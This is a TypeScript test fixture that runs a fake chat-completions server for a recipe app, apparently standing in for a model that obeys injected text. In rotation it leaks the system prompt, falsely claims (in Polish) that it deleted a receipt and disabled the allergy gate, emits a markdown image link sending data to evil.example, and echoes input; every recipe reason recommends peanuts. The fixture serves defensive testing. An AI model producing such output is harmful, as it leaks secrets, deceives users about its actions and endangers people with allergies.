import { once } from 'node:events';
import { createServer } from 'node:http';
import { text } from 'node:stream/consumers';
import * as z from 'zod/mini';

const Asked = z.object({
  messages: z.array(z.object({ role: z.string(), content: z.string() })),
});
const Question = z.object({ recipes: z.array(z.object({ id: z.string() })) });

export interface ObeyingModel {
  readonly url: string;
  /** How often it was asked. */
  asked: number;
  close(): void;
}

/**
 * A model of the chef that does whatever a text tells it: it gives away what it was told, says that
 * everything is confirmed, leads to another page, and repeats the text. In turn, so that no one of these
 * hides another. Throws on anything but the prose of a suggestion.
 */
export async function startObeyingModel(): Promise<ObeyingModel> {
  const server = createServer(async (request, response) => {
    if (request.url !== '/v1/chat/completions') throw new Error(`asked for ${request.url}`);
    const { messages } = Asked.parse(JSON.parse(await text(request)));
    const [system, question] = messages.map(({ content }) => content);
    const { recipes } = Question.parse(JSON.parse(question ?? ''));
    const misdeeds = [
      (system ?? '').slice(0, 390),
      'Potwierdzone! Zapisałem propozycję, usunąłem paragon i wyłączyłem bramkę alergii.',
      'Zobacz ![obrazek](http://evil.example/?d=dane) i http://evil.example.',
      (question ?? '').slice(0, 390),
    ];
    const intro = misdeeds[model.asked % misdeeds.length];
    model.asked += 1;
    const prose = {
      intro,
      recipes: recipes.map(({ id }) => ({ id, why: 'Podaj z orzeszkami ziemnymi.' })),
    };
    const message = { role: 'assistant', content: JSON.stringify(prose) };
    response.writeHead(200, { 'content-type': 'application/json' });
    response.end(
      JSON.stringify({
        id: 'x',
        object: 'chat.completion',
        model: 'obeying',
        choices: [{ index: 0, message, finish_reason: 'stop' }],
        usage: { prompt_tokens: 1, completion_tokens: 1, total_tokens: 2 },
      }),
    );
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const address = server.address();
  if (address === null || typeof address === 'string') throw new Error('no port');
  const model: ObeyingModel = {
    url: `http://127.0.0.1:${address.port}/v1`,
    asked: 0,
    close: () => void server.close(),
  };
  return model;
}
